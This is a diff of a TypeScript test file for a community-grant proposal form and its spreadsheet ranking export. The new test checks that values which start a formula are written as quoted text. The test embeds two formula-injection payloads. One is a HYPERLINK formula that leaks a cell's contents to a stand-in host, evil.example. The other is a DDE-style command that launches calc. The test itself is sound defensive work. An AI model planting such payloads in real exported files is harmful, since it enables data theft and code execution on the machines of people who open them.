@@ -123,7 +123,12 @@ describe('the proposal form (R17, R26)', () => {
     requestedYuan: '40000.50',
     contactName: '李红',
     contactPhone: '13800771234',
-    bankAccount: { accountName: '夕阳红', accountNumber: ' 6222 ', bankName: '北部湾银行' },
+    bankAccount: {
+      accountName: '夕阳红',
+      accountNumber: ' 6222 ',
+      bankCode: '313',
+      bankName: '北部湾银行',
+    },
   };
 
   it('adds up the lines as they are typed, and compares them with the amount asked', () => {
@@ -145,7 +150,7 @@ describe('the proposal form (R17, R26)', () => {
         { description: '志愿者培训', amountFen: 1_500_000 },
         { description: '探访物资', amountFen: 2_500_050 },
       ],
-      bankAccount: { accountNumber: '6222' },
+      bankAccount: { accountNumber: '6222', bankCode: '313' },
     });
     expect(checkBudgetLinesAddUp(dto.budgetLines, dto.requestedFen)).toEqual({ ok: true });
   });
@@ -388,6 +393,29 @@ describe('the ranking export (R13, R14, R17)', () => {
     expect(read.worksheets.map((w) => w.name)).toEqual(['排名', '评分']);
     const row = read.getWorksheet('排名')!.getRow(2).values as unknown[];
     expect(row.slice(1, 6)).toEqual([1, '邻里守望', '新竹社区夕阳红志愿服务队', '否', '50000.50']);
+  });
+
+  it('issue #15: writes text that would start a formula as a string with a leading quote', async () => {
+    const link = '=HYPERLINK("http://evil.example/?leak="&C2,"点击查看")';
+    const hostile = {
+      ...ranking,
+      rows: [{ ...ranking.rows[0], title: link, organizationName: "@SUM(1)|' /C calc'!A0" }],
+    } as VentureRankingView;
+    const sheets = rankingSheets(hostile, RUBRIC, t.t, true);
+    const read = new ExcelJS.Workbook();
+    await read.xlsx.load(await (await workbookOf(sheets)).xlsx.writeBuffer());
+    const row = read.getWorksheet('排名')!.getRow(2);
+    expect(row.getCell(2).value).toBe(`'${link}`);
+    expect(row.getCell(3).value).toBe(`'@SUM(1)|' /C calc'!A0`);
+    expect(row.getCell(8).value).toBe("'+10 公益慈善类"); // a bonus reason starts with its sign
+    expect([row.getCell(1).value, row.getCell(6).value]).toEqual([1, 83.33]); // numbers stay numbers
+    const cells = read.worksheets.flatMap((sheet) => {
+      const found: ExcelJS.Cell[] = [];
+      sheet.eachRow((r) => r.eachCell((cell) => found.push(cell)));
+      return found;
+    });
+    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(String(c.value)))).toEqual([]);
   });
 });
 
